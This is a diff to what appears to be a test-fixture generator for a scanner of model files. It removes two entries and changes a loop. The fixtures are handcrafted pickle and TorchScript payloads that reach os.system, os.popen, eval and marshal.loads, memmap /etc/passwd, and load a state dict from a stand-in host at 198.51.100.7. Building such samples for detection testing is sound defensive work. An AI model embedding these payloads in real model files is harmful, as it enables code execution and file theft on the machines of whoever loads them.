@@ -19,7 +19,7 @@ DTYPE = b"cnumpy\ndtype\n" + text("O8") + b"K\0K\1\x87R"
 ARRAY = npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n", b"\0" * 8)
 BYTES = lambda data: b"B" + struct.pack("<I", len(data)) + data  # noqa: E731
 STREAMS = {
-    "storage_bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(RUN) + b"\x85R.", "storage_legacy": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(b"".join([*LEGACY, RUN, b"\x80\x02]."])) + b"\x85R.", "storage_zip": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(zipped(checkpoint(RUN))) + b"\x85R.", "memmap": b"\x80\x02cnumpy._core.multiarray\n_reconstruct\ncnumpy\nmemmap\nK\0\x85" + text("b") + b"\x87R.", "memmap_new": b"\x80\x02cnumpy\nmemmap\n" + text("/etc/passwd") + b"\x85\x81.",
+    "storage_bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(RUN) + b"\x85R.", "storage_legacy": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(b"".join([*LEGACY, RUN, b"\x80\x02]."])) + b"\x85R.", "storage_zip": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + BYTES(zipped(checkpoint(RUN))) + b"\x85R.", "memmap_new": b"\x80\x02cnumpy\nmemmap\n" + text("/etc/passwd") + b"\x85\x81.",
     "object_bytes": b"\x80\x03cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85C\1b\x87R(K\1K\1\x85" + DTYPE + b"\x89C\x08AAAAAAAAtb.", "vectorize_system": state("numpy", "vectorize", text("pyfunc"), SYSTEM), "bunch_getattr": state("sklearn.utils._bunch", "Bunch", text("__getattr__"), SYSTEM), "selector_pattern": b"\x80\x02csklearn.compose._column_transformer\nmake_column_selector\n" + SYSTEM + b"\x85R.", "lambda_rate": state("torch.optim.lr_scheduler", "LambdaLR", text("lr_lambdas"), b"]cbuiltins\neval\na"), "partial_wrapper": state("torch.ao.quantization.observer", "_PartialWrapper", text("p"), b"cfunctools\npartial\n" + SYSTEM + b"\x85R"),
     "parameter_state": b"\x80\x02ctorch._utils\n_rebuild_parameter_with_state\n(NNN}" + text("__class__") + SYSTEM + b"stR.", "tensor_no_storage": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(" + SYSTEM + b"K\0K\1\x85K\1\x85\x89}tR.", "load_url": call("torch.hub", "load_state_dict_from_url", "http://198.51.100.7/x"), "dynamic_type": stack_call("torch._utils", "_import_dotted_name", "os.system"), "utf7_name": b"\x80\x04" + short("codecs") + short("decode") + b"\x93(" + short("+AG8-") + short("utf-7") + b"tR.", "code_object": b"\x80\x04" + short("types") + short("CodeType") + b"\x93)R.", "marshal_loads": b"\x80\x03cmarshal\nloads\nC\1N\x85R.",
     "os_environ": b"cos\nenviron\n.", "sys_path_insert": b"\x80\x02csys\npath\n(Vcanary\ne.", "builtins_update": b"\x80\x02cbuiltins\n__dict__\n" + text("len") + SYSTEM + b"s.", "append_global": b"\x80\x02csys\nmeta_path\n" + SYSTEM + b"a.", "build_on_module": b"\x80\x02csys\nmodules\n" + text("os") + b"N\x86.", "warn": call("warnings", "warn", "x"), "breakpoint": b"cbuiltins\nbreakpoint\n)R.", "asyncio": call("asyncio", "run", "x"), "gadget_nested": b"\x80\x04" + short("a") + b"(" + short("os") + short("popen") + b"\x93" + short("touch canary") + b"\x85Rl\x86.", "late_memo": b"\x80\x04" + short("system") + b"\x94" + short("os") + b"\x94h\0\x93\x86." + RUN,
@@ -63,9 +63,9 @@ for name, data in ONNX.items():
     malicious(f"fourth/{name}", data)
 
 SCRIPTS = {
-    "endless_state": script("return x").replace(b"PK\3\4", b"PK\3\4"), "own_save": script('_0 = ops.aten.save(x, "canary")\nreturn x'), "python_operator": script("return ops.prim.PythonOp(x)"), "fork": script("_0 = ops.prim.rpc_async(x)\nreturn x"), "lambda_call": script("return (lambda y: y)(x)"), "import_line": script("import os\nreturn x"),
+    "own_save": script('_0 = ops.aten.save(x, "canary")\nreturn x'), "python_operator": script("return ops.prim.PythonOp(x)"), "fork": script("_0 = ops.prim.rpc_async(x)\nreturn x"), "lambda_call": script("return (lambda y: y)(x)"), "import_line": script("import os\nreturn x"),
 }  # fmt: skip
-for name, data in list(SCRIPTS.items())[1:]:
+for name, data in SCRIPTS.items():
     malicious(f"fourth/script_{name}.pt", data)
 
 REST = {
